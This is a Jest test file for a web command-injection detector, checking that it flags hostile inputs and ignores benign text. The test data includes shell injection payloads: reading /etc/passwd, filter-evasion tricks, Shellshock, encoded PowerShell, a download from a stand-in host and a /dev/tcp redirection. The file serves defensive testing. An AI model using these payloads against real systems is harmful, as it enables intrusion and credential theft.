import type { InspectedValue, Paranoia } from '../types';
import { rceDetector } from './rce.detector';

function inspect(text: string, paranoia: Paranoia = 1, point = 'query.q') {
  const value: InspectedValue = { point, value: text, raw: text };
  return rceDetector.inspect(value, { paranoia });
}

describe('command injection detector', () => {
  it.each([
    ['a;id', 'rce/separator'],
    ['|id|', 'rce/separator'],
    ['1 && whoami', 'rce/separator'],
    ['x; cat /etc/passwd', 'rce/separator'],
    ['a);/usr/bin/id|', 'rce/separator'],
    ['$(whoami)', 'rce/substitution'],
    ['`uname -a`', 'rce/substitution'],
    ['x\nping -c 3 10.0.0.1', 'rce/separator'],
    [';c\'a\'t /etc/hosts', 'rce/separator'],
    ['1;w\\ho\\ami', 'rce/separator'],
    [';cat${IFS}/etc/passwd', 'rce/separator'],
    ['| dir c:\\', 'rce/separator'],
    ['& powershell -enc AAAA', 'rce/separator'],
    ['; Invoke-WebRequest http://x.example/a.ps1', 'rce/separator'],
    ['{cat,/etc/passwd}', 'rce/brace-expansion'],
    ['/e??/p?ss*', 'rce/glob'],
    ['() { :; }; /bin/bash -c id', 'rce/shellshock'],
    ['<!--#exec cmd="ls"-->', 'rce/ssi-exec'],
    ['FOR /L %G IN (1,1,5) DO echo %G', 'rce/batch'],
    ['time sh -c whoami', 'rce/separator'],
    ['echo x > /dev/tcp/10.0.0.1/80', 'rce/redirection'],
  ])('given %j, when inspected at paranoia 1, then it is command injection', (text, detector) => {
    const hit = inspect(text);
    expect(hit?.type).toBe('rce');
    expect(hit?.detector).toBe(detector);
    expect(hit?.point).toBe('query.q');
    expect(hit?.score).toBeGreaterThan(0.5);
  });

  it.each([
    "O'Reilly",
    'select the best option; more info below',
    'Tom & Jerry',
    'salt & pepper | fresh',
    'see above; time is short',
    'I love dogs; cats too',
    'Home | About | Contact',
    '$(document).ready(fn)',
    'jane.doe@example.com',
    'https://example.com/a?b=1&c=2',
    '{"a":1,"b":[1,2]}',
    '1 OR 2 items',
    'v1.2../3',
    'pico despuig',
    'python tutorial',
    'Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119',
    '2026-11-24T10:00:00Z',
    '3f2a9c1e-8b7d-4e2a-9f1c-2b3d4e5f6a7b',
    'dGhpcyBpcyBhIHRva2Vu',
    'If it exists, call me',
    'wait....what',
  ])('given the benign %j, when inspected at paranoia 1, then nothing fires', (text) => {
    expect(inspect(text, 1, text.startsWith('Opera') ? 'header.user-agent' : 'query.q')).toBeNull();
  });

  it('given a command that is also a word, when it only follows a separator, then paranoia 2 takes it and 1 does not', () => {
    expect(inspect('news; more')).toBeNull();
    expect(inspect('news; more', 2)?.type).toBe('rce');
  });

  it('given a long hostile value, when inspected, then it returns quickly', () => {
    const text = ';'.repeat(4000) + 'a'.repeat(4000) + '{a,'.repeat(500);
    const started = process.hrtime.bigint();
    inspect(text, 4);
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(200);
  });
});
